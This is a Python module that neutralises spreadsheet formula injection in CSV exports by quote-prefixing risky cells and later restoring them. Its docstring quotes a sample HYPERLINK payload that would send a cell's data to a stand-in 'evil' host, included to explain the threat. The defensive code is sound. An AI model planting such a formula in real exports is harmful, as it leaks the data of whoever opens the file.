"""CSV that a spreadsheet cannot execute: the one formula-injection guard for every CSV we write.

Excel, LibreOffice Calc and Google Sheets read a cell whose text starts with `=`, `+`, `-` or `@`
as a formula, and a leading tab, carriage return or NUL can carry one; profile data is written by
strangers, so a GitHub name such as `=HYPERLINK("http://evil/?"&A2,"Click")` in an export would run
on the machine of whoever opens the file. The rule (OWASP "CSV Injection",
https://owasp.org/www-community/attacks/CSV_Injection; OWASP ASVS V1.2.10; CWE-1236): prefix such a
cell with a single quote, which spreadsheets take as "this cell is text". Quoting and escaping of
separators stays with the `csv` module (RFC 4180); only text cells are touched, so numbers stay numbers.

The prefix is reversible, because some of our CSVs are read back (the suppression export is an
import file; a masked download re-writes the leads CSV): a value that already starts with quotes
before a trigger gets one more quote, and `restore_cell` takes exactly one away. Readers of our files
restore before they use a value, and writers neutralise once, here, so nothing is quoted twice.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence

FORMULA_TRIGGERS = frozenset("=+-@\t\r\0")


def _starts_formula(value: str) -> bool:
    """True when a spreadsheet would read `value`, after any quote prefixes, as the start of a formula."""
    return value.lstrip("'")[:1] in FORMULA_TRIGGERS


def neutralise_cell(value: str) -> str:
    """`value` as a CSV cell no spreadsheet evaluates: one quote in front when it starts a formula."""
    return f"'{value}" if _starts_formula(value) else value


def restore_cell(value: str) -> str:
    """The value `neutralise_cell` was given (a cell it did not change is returned as it is)."""
    return value[1:] if value.startswith("'") and _starts_formula(value[1:]) else value


def csv_text(fieldnames: Sequence[str], rows: Iterable[Mapping[str, object]], *, lineterminator: str = "\r\n") -> str:
    """A CSV document, header first, with every text cell neutralised (other values as `csv` writes them)."""
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(fieldnames), lineterminator=lineterminator)
    writer.writeheader()
    writer.writerows({k: neutralise_cell(v) if isinstance(v, str) else v for k, v in row.items()} for row in rows)
    return buffer.getvalue()


def read_csv(text: str) -> tuple[list[str], list[dict[str, str]]]:
    """The header and the rows of a CSV document we wrote, each cell restored."""
    reader = csv.DictReader(io.StringIO(text, newline=""))
    rows = [{k: restore_cell(v) for k, v in row.items()} for row in reader]
    return list(reader.fieldnames or []), rows
